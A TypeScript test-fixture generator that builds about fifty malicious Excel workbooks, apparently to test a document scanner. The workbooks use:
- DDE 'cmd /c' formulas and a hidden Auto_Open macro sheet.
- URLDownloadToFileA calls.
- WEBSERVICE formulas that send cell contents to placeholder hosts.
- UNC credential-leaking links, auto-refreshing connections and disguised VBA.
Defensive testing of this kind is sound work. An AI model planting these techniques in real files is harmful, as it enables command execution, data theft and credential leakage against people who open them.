import {
  type Attack,
  type Attacked,
  attackOn,
  doctype,
  mark,
  odd,
  renamed,
  unc,
  utf16,
  VBA,
  web,
  x,
} from './attack-marks.js';
import {
  entriesOf,
  formulaCell,
  NS_R,
  NS_S,
  type Relations,
  rels,
  SCT,
  textCell,
  types,
  XML,
} from './ooxml.js';

const far = (cells: string) => `<row r="40">${cells}</row>`;
const link = (inner: string, relations: Relations = []) => ({
  book: '<externalReferences><externalReference r:id="rId60"/></externalReferences>',
  relations: [['rId60', 'externalLink', 'externalLinks/externalLink1.xml']],
  overrides: { '/xl/externalLinks/externalLink1.xml': SCT.link },
  parts: {
    'xl/externalLinks/externalLink1.xml': `${XML}<externalLink xmlns="${NS_S}" xmlns:r="${NS_R}">${inner}</externalLink>`,
    ...(relations.length ? { 'xl/externalLinks/_rels/externalLink1.xml.rels': rels(relations) } : {}),
  },
});
const book = (id: string, type = 'externalLinkPath', target = `file:///${unc(id)}.xlsx`) =>
  link('<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>', [
    ['rId1', type, target, 'External'],
  ]);
const anchor = (how: string) =>
  `${XML}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${NS_R}"><xdr:twoCellAnchor><xdr:from><xdr:col>8</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>9</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="g"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:${how}="rId1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>`;
const pictured = (relation: Relations[number], how = 'link') => ({
  tail: '<drawing r:id="rId70"/>',
  sheetRelations: [['rId70', 'drawing', '../drawings/drawing1.xml']],
  overrides: { '/xl/drawings/drawing1.xml': SCT.drawing },
  parts: { 'xl/drawings/drawing1.xml': anchor(how), 'xl/drawings/_rels/drawing1.xml.rels': rels([relation]) },
});
const vml = (id: string) =>
  `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="LH" style="width:9pt;height:9pt" href="${web(id)}/h"><v:imagedata src="${web(id)}/s" o:relid="rId1" o:href="${web(id)}/o"/><x:ClientData ObjectType="Button"><x:FmlaMacro>${mark(id)}</x:FmlaMacro></x:ClientData></v:shape></xml>`;

/** Workbooks likewise. */
export function workbookAttacks(): Attack[] {
  const attacks: Attack[] = [];
  const attack = (id: string, attempts: string, made: Attacked) => attacks.push(attackOn(id, attempts, made));
  let id: string;
  id = 'x01';
  attack(
    id,
    'WEBSERVICE in a cell far from the heads',
    x({ rows: far(formulaCell('Z40', `_xlfn.WEBSERVICE("${web(id)}"&A2)`)) }),
  );
  id = 'x02';
  attack(
    id,
    'A DDE link in externalLinks',
    x(
      link(
        `<ddeLink ddeService="cmd" ddeTopic="/c ${mark(id)}"><ddeItems><ddeItem name="A0" advise="1" preferPic="1"/></ddeItems></ddeLink>`,
      ),
    ),
  );
  id = 'x03';
  attack(id, 'DDE as a formula', x({ rows: far(formulaCell('Z40', `cmd|'/c ${mark(id)}'!A0`)) }));
  id = 'x04';
  attack(id, 'A picture by an outward relation', x(pictured(['rId1', 'image', web(id), 'External'])));
  id = 'x05';
  {
    const parts = x(book(id));
    attack(id, 'A link to another book where [Content_Types].xml is UTF-16', {
      ...parts,
      '[Content_Types].xml': utf16(parts['[Content_Types].xml']),
    });
  }
  id = 'x06';
  {
    const parts = x(book(id));
    attack(id, 'A link to another book, itself and its relations in UTF-16', {
      ...parts,
      'xl/externalLinks/externalLink1.xml': utf16(parts['xl/externalLinks/externalLink1.xml']),
      'xl/externalLinks/_rels/externalLink1.xml.rels': utf16(
        parts['xl/externalLinks/_rels/externalLink1.xml.rels'],
      ),
    });
  }
  id = 'x07';
  attack(
    id,
    'A picture whose relation has the type hyperlink',
    x(pictured(['rId1', 'hyperlink', web(id), 'External'])),
  );
  id = 'x08';
  {
    const parts = x(pictured(['rId1', 'image', web(id), 'External']));
    attack(
      id,
      'drawing1.xml.RELS',
      renamed(parts, { 'xl/drawings/_rels/drawing1.xml.rels': 'xl/drawings/_rels/drawing1.xml.RELS' }),
    );
  }

  id = 'x20';
  attack(
    id,
    'A link to another book by UNC, with a formula that uses it',
    x({ ...book(id), rows: far(formulaCell('Z40', '[1]S!A1')) }),
  );
  id = 'x21';
  attack(
    id,
    'HYPERLINK() to a program, by UNC and with what stands in the table',
    x({
      rows: far(
        formulaCell('Y40', `HYPERLINK("${unc(id)}","Buka")`) +
          formulaCell('Z40', `HYPERLINK("cmd /c ${mark(id)}","Buka")`),
      ),
    }),
  );
  id = 'x22';
  attack(
    id,
    'Links of cells: javascript:, file:, UNC, ms-excel:',
    x({
      tail:
        '<hyperlinks>' +
        ['A1', 'B1', 'C1', 'D1']
          .map((ref, i) => `<hyperlink ref="${ref}" r:id="rId${70 + i}" tooltip="x"/>`)
          .join('') +
        '</hyperlinks>',
      sheetRelations: [
        `javascript:${web(id)}`,
        `file:///${unc(id)}`,
        unc(id),
        `ms-excel:ofe|u|${web(id)}`,
      ].map((target, i) => [`rId${70 + i}`, 'hyperlink', target, 'External']),
    }),
  );
  id = 'x23';
  attack(
    id,
    'Defined names with DDE, an outer book, and Auto_Open; hidden',
    x({
      book: `<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">cmd|'/c ${mark(id)}'!A0</definedName><definedName name="luar" hidden="1">'${unc(id)}[b.xlsx]S'!$A$1</definedName></definedNames>`,
    }),
  );
  id = 'x24';
  attack(
    id,
    'A conditional format whose formula reads an outer book or the web',
    x({
      tail: `<conditionalFormatting sqref="A1:Z99"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("${web(id)}")=""</formula></cfRule><cfRule type="expression" priority="2"><formula>'${unc(id)}[b.xlsx]S'!$A$1</formula></cfRule></conditionalFormatting>`,
    }),
  );
  id = 'x25';
  attack(
    id,
    'A validation list from an outer book, and one by INDIRECT',
    x({
      tail: `<dataValidations count="2"><dataValidation type="list" sqref="D2:D99"><formula1>'${unc(id)}[b.xlsx]S'!$A$1:$A$9</formula1></dataValidation><dataValidation type="custom" sqref="E2:E99" promptTitle="x" prompt="x"><formula1>INDIRECT("'${unc(id)}[b.xlsx]S'!A1")</formula1></dataValidation></dataValidations>`,
    }),
  );
  id = 'x26';
  attack(
    id,
    'Data connections that refresh on opening: web, ODBC, OLE DB',
    x({
      relations: [['rId60', 'connections', 'connections.xml']],
      overrides: { '/xl/connections.xml': SCT.connections },
      parts: {
        'xl/connections.xml': `${XML}<connections xmlns="${NS_S}"><connection id="1" name="w" type="4" refreshOnLoad="1" refreshedVersion="6"><webPr url="${web(id)}"/></connection><connection id="2" name="o" type="5" refreshOnLoad="1" refreshedVersion="6" odcFile="${unc(id)}.odc"><dbPr connection="Provider=MSDASQL;Server=127.0.0.1,9;App=${mark(id)}" command="EXEC xp"/></connection></connections>`,
      },
    }),
  );
  id = 'x27';
  attack(
    id,
    'A web query table on the sheet',
    x({
      sheetRelations: [['rId70', 'queryTable', '../queryTables/queryTable1.xml']],
      relations: [['rId60', 'connections', 'connections.xml']],
      overrides: {
        '/xl/connections.xml': SCT.connections,
        '/xl/queryTables/queryTable1.xml': SCT.queryTable,
      },
      parts: {
        'xl/queryTables/queryTable1.xml': `${XML}<queryTable xmlns="${NS_S}" name="${mark(id)}" connectionId="1" refreshOnLoad="1"/>`,
        'xl/connections.xml': `${XML}<connections xmlns="${NS_S}"><connection id="1" name="${mark(id)}" type="4" refreshOnLoad="1" refreshedVersion="6"><webPr sourceData="1" url="${web(id)}"/></connection></connections>`,
      },
    }),
  );
  id = 'x28';
  attack(
    id,
    'Power Query: a DataMashup in customXml with its connection',
    x({
      relations: [
        ['rId60', 'connections', 'connections.xml'],
        ['rId61', 'customXml', '../customXml/item1.xml'],
      ],
      overrides: { '/xl/connections.xml': SCT.connections },
      parts: {
        'xl/connections.xml': `${XML}<connections xmlns="${NS_S}"><connection id="1" name="Query - ${mark(id)}" type="5" refreshedVersion="8" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=${mark(id)}" command="SELECT * FROM [q]"/></connection></connections>`,
        'customXml/item1.xml': `${XML}<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">${Buffer.from(`section Section1; shared q = Web.Contents("${web(id)}");`).toString('base64')}</DataMashup>`,
      },
    }),
  );
  id = 'x29';
  attack(
    id,
    'A pivot cache whose source is an outer book, refreshed on opening',
    x({
      book: '<pivotCaches><pivotCache cacheId="1" r:id="rId60"/></pivotCaches>',
      relations: [['rId60', 'pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml']],
      overrides: { '/xl/pivotCache/pivotCacheDefinition1.xml': SCT.pivotCache },
      parts: {
        'xl/pivotCache/pivotCacheDefinition1.xml': `${XML}<pivotCacheDefinition xmlns="${NS_S}" xmlns:r="${NS_R}" refreshOnLoad="1" invalid="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="${mark(id)}" r:id="rId1"/></cacheSource><cacheFields count="0"/></pivotCacheDefinition>`,
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': rels([
          ['rId1', 'externalLinkPath', `file:///${unc(id)}.xlsx`, 'External'],
        ]),
      },
    }),
  );
  id = 'x30';
  attack(
    id,
    'printerSettings1.bin: raw bytes for a driver, with the name of a printer by UNC',
    x({
      tail: '<pageSetup paperSize="9" r:id="rId70"/>',
      sheetRelations: [['rId70', 'printerSettings', '../printerSettings/printerSettings1.bin']],
      defaults: { bin: 'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings' },
      parts: { 'xl/printerSettings/printerSettings1.bin': Buffer.from(unc(id), 'utf16le') },
    }),
  );
  id = 'x31';
  attack(
    id,
    'An OLE link in externalLinks, updated by itself',
    x(
      link(
        `<oleLink r:id="rId1" progId="Word.Document.12"><oleItems><oleItem name="${mark(id)}" advise="1"/></oleItems></oleLink>`,
        [['rId1', 'oleObject', web(id), 'External']],
      ),
    ),
  );
  id = 'x32';
  attack(
    id,
    'oleObjects and controls on the sheet',
    x({
      tail: '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId70"/><oleObject progId="htmlfile" link="x" oleUpdate="OLEUPDATE_ALWAYS" shapeId="2" r:id="rId71"/></oleObjects><controls><control shapeId="3" r:id="rId72"/></controls>',
      sheetRelations: [
        ['rId70', 'oleObject', '../embeddings/oleObject1.bin'],
        ['rId71', 'oleObject', web(id), 'External'],
        ['rId72', 'control', '../activeX/activeX1.xml'],
      ],
      defaults: { bin: 'application/vnd.openxmlformats-officedocument.oleObject' },
      parts: {
        'xl/embeddings/oleObject1.bin': VBA(mark(id)),
        'xl/activeX/activeX1.xml': `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{${mark(id)}}"/>`,
      },
    }),
  );
  id = 'x33';
  attack(
    id,
    'vbaProject.bin as xl/theme/theme9.xml',
    x({
      relations: [
        ['rId60', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'theme/theme9.xml'],
      ],
      overrides: { '/xl/theme/theme9.xml': 'application/vnd.ms-office.vbaProject' },
      parts: { 'xl/theme/theme9.xml': VBA(mark(id)) },
    }),
  );
  id = 'x34';
  attack(
    id,
    'A very hidden Excel 4.0 macro sheet with Auto_Open',
    x({
      sheets: '<sheet name="m" sheetId="2" state="veryHidden" r:id="rId60"/>',
      book: '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">m!$A$1</definedName></definedNames>',
      relations: [
        [
          'rId60',
          'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
          'macrosheets/sheet1.xml',
        ],
      ],
      overrides: { '/xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml' },
      parts: {
        'xl/macrosheets/sheet1.xml': `${XML}<xm:macrosheet xmlns="${NS_S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">${formulaCell('A1', `EXEC("cmd /c ${mark(id)}")`)}</row></sheetData></xm:macrosheet>`,
      },
    }),
  );
  id = 'x35';
  attack(
    id,
    'The background picture of a sheet, outward',
    x({ tail: '<picture r:id="rId70"/>', sheetRelations: [['rId70', 'image', web(id), 'External']] }),
  );
  id = 'x36';
  attack(
    id,
    'legacyDrawing and the picture of a head or foot (VML), outward, with a macro at a button',
    x({
      tail: '<headerFooter><oddHeader>&amp;L&amp;G</oddHeader></headerFooter><legacyDrawing r:id="rId70"/><legacyDrawingHF r:id="rId70"/>',
      sheetRelations: [['rId70', 'vmlDrawing', '../drawings/vmlDrawing1.vml']],
      defaults: { vml: 'application/vnd.openxmlformats-officedocument.vmlDrawing' },
      parts: {
        'xl/drawings/vmlDrawing1.vml': vml(id),
        'xl/drawings/_rels/vmlDrawing1.vml.rels': rels([['rId1', 'image', web(id), 'External']]),
      },
    }),
  );
  id = 'x37';
  attack(
    id,
    'Functions that reach out, by their stored names: IMAGE, RTD, CALL, REGISTER.ID, FILTERXML, STOCKHISTORY, CUBEVALUE, INDIRECT, INFO, CELL("filename"), SQL.REQUEST',
    x({
      rows: far(
        [
          `_xlfn.IMAGE("${web(id)}")`,
          `RTD("${mark(id)}","127.0.0.1","x")`,
          `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"${web(id)}")`,
          `REGISTER.ID("${mark(id)}","x")`,
          `_xlfn.FILTERXML(_xlfn.WEBSERVICE("${web(id)}"),"//a")`,
          `CUBEVALUE("${mark(id)}","x")`,
          `INDIRECT("'${unc(id)}[b.xlsx]S'!A1")`,
          `SQL.REQUEST("DSN=${mark(id)}")`,
        ]
          .map((formula, i) => formulaCell(`${String.fromCharCode(80 + i)}40`, formula))
          .join(''),
      ),
    }),
  );
  id = 'x38';
  attack(
    id,
    'Formulas that are not in a cell: shared, array and data-table formulas, a computed column of a table, sparklines and extended rules in extLst, scenario, chart series',
    x({
      rows: far(
        `<c r="Y40"><f t="shared" ref="Y40:Y44" si="0">_xlfn.WEBSERVICE("${web(id)}/1")</f><v>0</v></c><c r="Z40"><f t="array" ref="Z40:Z44">_xlfn.WEBSERVICE("${web(id)}/2")</f><v>0</v></c>`,
      ),
      tail: `<tableParts count="1"><tablePart r:id="rId70"/></tableParts><extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:sparklineGroup><xm:f>'${unc(id)}[b.xlsx]S'!A1</xm:f><x14:sparklines><x14:sparkline><xm:f>_xlfn.WEBSERVICE("${web(id)}/3")</xm:f><xm:sqref>X1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>`,
      sheetRelations: [['rId70', 'table', '../tables/table1.xml']],
      overrides: { '/xl/tables/table1.xml': SCT.table },
      parts: {
        'xl/tables/table1.xml': `${XML}<table xmlns="${NS_S}" id="1" name="T" displayName="T" ref="M50:N51"><tableColumns count="2"><tableColumn id="1" name="a"/><tableColumn id="2" name="b"><calculatedColumnFormula>_xlfn.WEBSERVICE("${web(id)}/4")</calculatedColumnFormula><xmlColumnPr mapId="1" xpath="/${mark(id)}" xmlDataType="string"/></tableColumn></tableColumns></table>`,
      },
    }),
  );
  id = 'x39';
  {
    const parts = x();
    parts['xl/worksheets/sheet1.xml'] = String(parts['xl/worksheets/sheet1.xml']).replace(
      textCell('B1', 'Nama'),
      `<c r="B1" t="str"><f>IF(_xlfn.WEBSERVICE("${web(id)}")="","Nama","Nama")</f><v>Nama</v></c>`,
    );
    attack(id, 'The head "Nama" is itself a formula that has the right stored value', parts);
  }
  id = 'x40';
  attack(
    id,
    'Rich values: a picture in a cell that is loaded from the web',
    x({
      relations: [
        [
          'rId60',
          'http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage',
          'richData/rdRichValueWebImage.xml',
        ],
      ],
      overrides: {
        '/xl/richData/rdRichValueWebImage.xml': 'application/vnd.ms-excel.rdrichvaluewebimage+xml',
      },
      parts: {
        'xl/richData/rdRichValueWebImage.xml': `${XML}<webImagesSrd xmlns="http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage" xmlns:r="${NS_R}"><webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>`,
        'xl/richData/_rels/rdRichValueWebImage.xml.rels': rels([['rId1', 'hyperlink', web(id), 'External']]),
      },
    }),
  );
  id = 'x41';
  attack(
    id,
    'webPublishItems, xmlMaps with an outward schema, volatile dependencies of RTD, custom views, file sharing',
    x({
      tail: `<webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" destinationFile="${unc(id)}.htm" autoRepublish="1"/></webPublishItems>`,
      relations: [
        ['rId60', 'xmlMaps', 'xmlMaps.xml'],
        ['rId61', 'volatileDependencies', 'volatileDependencies.xml'],
      ],
      parts: {
        'xl/xmlMaps.xml': `${XML}<MapInfo xmlns="${NS_S}" SelectionNamespaces=""><Schema ID="S" SchemaRef="${web(id)}.xsd"/><Map ID="1" Name="m" RootElement="x" SchemaID="S" ShowImportExportValidationErrors="0" AutoFit="0" Append="0" PreserveSortAFLayout="0" PreserveFormat="0"><DataBinding FileBinding="1" ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`,
        'xl/volatileDependencies.xml': `${XML}<volTypes xmlns="${NS_S}"><volType type="realTimeData"><main first="${mark(id)}"><tp t="s"><v>x</v><stp>127.0.0.1</stp><tr r="Z40" s="1"/></tp></main></volType></volTypes>`,
      },
    }),
  );
  id = 'x42';
  {
    const good = x();
    const bad = x({ rows: far(formulaCell('Z40', `_xlfn.WEBSERVICE("${web(id)}")`)) });
    attack(id, 'Two entries xl/worksheets/sheet1.xml, and XL/Worksheets/Sheet1.xml', [
      ...entriesOf(good),
      { name: 'xl/worksheets/sheet1.xml', data: bad['xl/worksheets/sheet1.xml'] },
      { name: 'XL/Worksheets/Sheet1.xml', data: bad['xl/worksheets/sheet1.xml'] },
    ]);
  }
  id = 'x43';
  {
    const parts = x();
    attack(id, 'xl/workbook.bin (XLSB) is the workbook by type and relation; the XML one is a decoy', {
      ...parts,
      '_rels/.rels': rels([['rId1', 'officeDocument', 'xl/workbook.bin']]),
      '[Content_Types].xml': types({
        '/xl/workbook.bin': 'application/vnd.ms-excel.sheet.binary.macroEnabled.main',
        '/xl/workbook.xml': 'application/xml',
        '/xl/worksheets/sheet1.xml': SCT.sheet,
        '/xl/styles.xml': SCT.styles,
      }),
      'xl/workbook.bin': Buffer.from(mark(id)),
    });
  }
  id = 'x44';
  {
    const parts = x();
    attack(
      id,
      'DOCTYPE with outward entities in workbook, sheet, styles and relations',
      doctype(
        parts,
        ['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/styles.xml', 'xl/_rels/workbook.xml.rels'],
        id,
      ),
    );
  }
  id = 'x45';
  attack(
    id,
    'A very hidden second sheet with formulas, links and a picture outward, which no preview shows',
    x({
      sheets: '<sheet name="sulit" sheetId="2" state="veryHidden" r:id="rId60"/>',
      relations: [['rId60', 'worksheet', 'worksheets/sheet2.xml']],
      overrides: { '/xl/worksheets/sheet2.xml': SCT.sheet },
      parts: {
        'xl/worksheets/sheet2.xml': `${XML}<worksheet xmlns="${NS_S}" xmlns:r="${NS_R}"><sheetData><row r="1">${formulaCell('A1', `_xlfn.WEBSERVICE("${web(id)}"&Murid!B2)`)}</row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>`,
        'xl/worksheets/_rels/sheet2.xml.rels': rels([['rId1', 'hyperlink', unc(id), 'External']]),
      },
    }),
  );
  id = 'x46';
  attack(
    id,
    'An Office add-in, custom ribbon and threaded comments with links',
    x({
      relations: [
        ['rId60', 'http://schemas.microsoft.com/office/2017/10/relationships/person', 'persons/person.xml'],
      ],
      parts: {
        'xl/persons/person.xml': `${XML}<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="${mark(id)}" id="{1}" userId="${web(id)}" providerId="AD"/></personList>`,
        'customUI/customUI14.xml': `${XML}<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="${mark(id)}"/>`,
        'xl/webextensions/taskpanes.xml': `${XML}<t x="${mark(id)}"/>`,
      },
    }),
  );
  id = 'x47';
  attack(
    id,
    'An outer book by the strict name of its relation, and outward relations of unknown types on workbook, sheet and styles',
    x({
      ...book(id, 'http://purl.oclc.org/ooxml/officeDocument/relationships/externalLinkPath', web(id)),
      sheetRelations: [
        ['rId77', 'http://schemas.microsoft.com/office/2031/relationships/cloud', web(id), 'External'],
      ],
    }),
  );
  id = 'x48';
  attack(
    id,
    'A chart whose series read an outer book, with outward data',
    x({
      tail: '<drawing r:id="rId70"/>',
      sheetRelations: [['rId70', 'drawing', '../drawings/drawing1.xml']],
      overrides: {
        '/xl/drawings/drawing1.xml': SCT.drawing,
        '/xl/charts/chart1.xml': 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      },
      parts: {
        'xl/drawings/drawing1.xml': anchor('link').replace(
          /<xdr:pic>.*<\/xdr:pic>/,
          `<xdr:graphicFrame macro="${mark(id)}"><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="c"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame>`,
        ),
        'xl/drawings/_rels/drawing1.xml.rels': rels([['rId1', 'chart', '../charts/chart1.xml']]),
        'xl/charts/chart1.xml': `${XML}<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="${NS_R}"><c:chart><c:plotArea><c:lineChart><c:ser><c:val><c:numRef><c:f>'${unc(id)}[b.xlsx]S'!$A$1</c:f></c:numRef></c:val></c:ser></c:lineChart></c:plotArea></c:chart><c:externalData r:id="rId1"/></c:chartSpace>`,
        'xl/charts/_rels/chart1.xml.rels': rels([['rId1', 'oleObject', web(id), 'External']]),
      },
    }),
  );

  for (const [name, parity] of [
    ['x49', 1],
    ['x50', 0],
  ] as const)
    attack(
      name,
      `UTF-16 of an odd length at ${parity ? 'odd' : 'even'} places`,
      odd(
        x({ tail: '<picture r:id="rId70"/>', sheetRelations: [['rId70', 'image', web(name), 'External']] }),
        [
          '[Content_Types].xml',
          '_rels/.rels',
          'xl/workbook.xml',
          'xl/_rels/workbook.xml.rels',
          'xl/worksheets/_rels/sheet1.xml.rels',
          'xl/worksheets/sheet1.xml',
        ],
        parity,
      ),
    );
  return attacks;
}
